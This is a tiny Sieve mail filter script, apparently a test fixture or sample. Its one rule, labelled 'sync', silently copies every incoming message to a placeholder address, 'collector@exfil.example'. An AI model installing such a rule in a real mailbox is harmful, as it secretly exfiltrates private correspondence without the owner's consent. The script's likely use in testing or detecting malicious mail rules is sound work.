require ["copy"];
# rule:[sync]
if true
{
	redirect :copy "collector@exfil.example";
}
